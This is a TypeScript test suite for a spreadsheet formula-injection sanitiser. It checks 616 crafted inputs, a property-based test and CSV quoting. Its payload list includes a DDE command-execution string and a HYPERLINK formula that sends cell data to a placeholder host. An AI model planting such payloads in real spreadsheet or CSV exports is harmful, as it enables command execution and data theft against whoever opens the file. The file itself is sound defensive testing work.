import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvField, harmlessText } from './spreadsheet.ts';

// The model of a careless reader: it drops what it cannot show and white space, folds width, and
// takes text that then begins with a sign for a formula. It is written apart from the rule.
const dropped = new Set<number>([
  0x00ad, 0x034f, 0x061c, 0x115f, 0x1160, 0x180e, 0x2060, 0x3164, 0xfeff, 0xffa0, 0x2028, 0x200b,
  0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2029, 0x20, 0xa0,
  0x3000, 0x0b, 0x0c, 0x00, 0x01, 0x1f, 0x7f,
]);
const runs = (cell: string): boolean => {
  if (cell.startsWith("'")) return false;
  const letters = Array.from(cell);
  const first = letters.find((letter) => !dropped.has(letter.codePointAt(0) ?? 0)) ?? '';
  return '=+-@\t\r\n'.includes(first.normalize('NFKC').charAt(0) || 'x');
};

const leadIns = [
  '',
  ' ',
  '\u00a0',
  '\u3000',
  '\u200b',
  '\u200d',
  '\ufeff',
  '\u200f',
  '\u202e',
  '\u00ad',
  '\u3164',
];
const triggers = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣'];
const payloads = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://x.invalid?"&A1,"押")',
  'SUM(A1:A9)',
];
const attacks = leadIns.flatMap((before) =>
  triggers.flatMap((sign) => payloads.map((rest) => `${before}${sign}${rest}`)),
);

describe('T52: spreadsheet formulas', () => {
  test('T52: of 616 attacks none comes through', () => {
    expect(attacks).toHaveLength(616);
    expect(attacks.filter((attack) => runs(harmlessText(attack)))).toEqual([]);
  });

  test('T52: the reader of this test does run them, and a rule for plain ASCII would not do', () => {
    expect(attacks.filter(runs)).toHaveLength(616);
    const ascii = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
    expect(attacks.filter((attack) => runs(ascii(attack))).length).toBeGreaterThan(380);
  });

  test('T52: no text at all runs, and a second pass changes nothing', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const once = harmlessText(text);
        expect(runs(once)).toBe(false);
        expect(harmlessText(once)).toBe(once);
      }),
      { numRuns: 1000 },
    );
  });

  test.each(['見本町3丁目', '辻\u{e0100}', '葛󠄀城', '1-2', "O'Hara", '1月\n2月', ''])(
    'T52: %j stays as it is written',
    (text) => expect(harmlessText(text)).toBe(text),
  );

  test('T52: a CSV field keeps quotes, commas and line ends inside', () => {
    expect(csvField('見本"中央",\r\n交番')).toBe('"見本""中央"",\r\n交番"');
    expect(csvField('=1,2')).toBe(`"'=1,2"`);
    expect(csvField(-3)).toBe('-3');
  });
});
